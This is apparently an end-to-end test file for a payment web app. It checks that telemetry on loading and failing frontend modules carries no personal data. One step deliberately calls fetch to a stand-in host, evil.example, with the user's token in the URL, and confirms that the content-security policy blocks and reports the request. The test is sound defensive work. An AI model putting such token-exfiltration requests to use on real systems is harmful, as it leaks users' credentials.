import { createFaultBoard } from '@tessera/assembly';
import { expect, newPerson, requestMoney, test, topUp } from '@tessera/test-kit';
import { failurePanels } from '../steps/frame/failure-panel.ts';
import { confirmWithPin, paymentModal } from '../steps/operations/payment-modal.ts';

test.use({ expectedErrors: [/evil\.example/] });

test('telemetry reports how remotes load and fail, without personal data @FED-8', async ({
  page,
  app,
  person,
  logIn,
  serve,
}) => {
  const told: string[] = [];
  const faults = createFaultBoard();
  const { origin } = await serve({
    config: { telemetry: '/telemetry' },
    faults,
    telemetry: (line) => told.push(line),
  });
  const maria = await newPerson(app, { first: 'Maria', last: 'Lopez' });
  await topUp(app, person, '100.00', 'USD');
  const path = await requestMoney(app, maria, 'USD', '25.50');
  const records = () => told.map((line) => JSON.parse(line) as Record<string, unknown>);

  await test.step('I pay what Maria asked for, on a page that is full of secrets', async () => {
    await logIn(person, { origin, path });
    await page.getByRole('button', { name: 'Pay $25.50' }).click();
    await confirmWithPin(page, person.pin);
    await expect(paymentModal(page)).toContainText('Maria L.');
    await expect
      .poll(records)
      .toContainEqual(
        expect.objectContaining({ remote: 'wallet', outcome: 'loaded', page: '/pay/:code' }),
      );
    const [wallet] = records().filter(({ remote }) => remote === 'wallet');
    expect(wallet).toMatchObject({ module: './payment-request', phase: null });
    expect(wallet?.['version']).toMatch(/^\d+\.\d+\.\d+-/);
    expect(wallet?.['durationMs']).toBeGreaterThan(0);
  });
  await test.step('A part that cannot be loaded is told with its phase', async () => {
    faults.set([{ remote: 'payment', part: 'entry', fault: 'not-found' }]);
    await page.goto(`${origin}/payment`);
    await expect(failurePanels(page, 'payment')).toBeVisible();
    await expect
      .poll(records)
      .toContainEqual(
        expect.objectContaining({ remote: 'payment', outcome: 'failed', phase: 'entry' }),
      );
  });
  await test.step('a policy violation is reported with its destination only', async () => {
    await page.evaluate(
      (token) => fetch(`https://evil.example/take?token=${token}`).catch(() => undefined),
      person.token,
    );
    await expect.poll(records).toContainEqual(
      expect.objectContaining({
        phase: 'policy',
        outcome: 'refused',
        violation: { directive: 'connect-src', blocked: 'https://evil.example' },
      }),
    );
  });
  const all = told.join('\n');
  const secrets = [person.token, person.phone, maria.phone, '25.5', '100.00', 'Maria', 'Ann'];
  for (const secret of [...secrets, path.split('/').at(-1) ?? '', '?']) {
    expect(all).not.toContain(secret);
  }
});
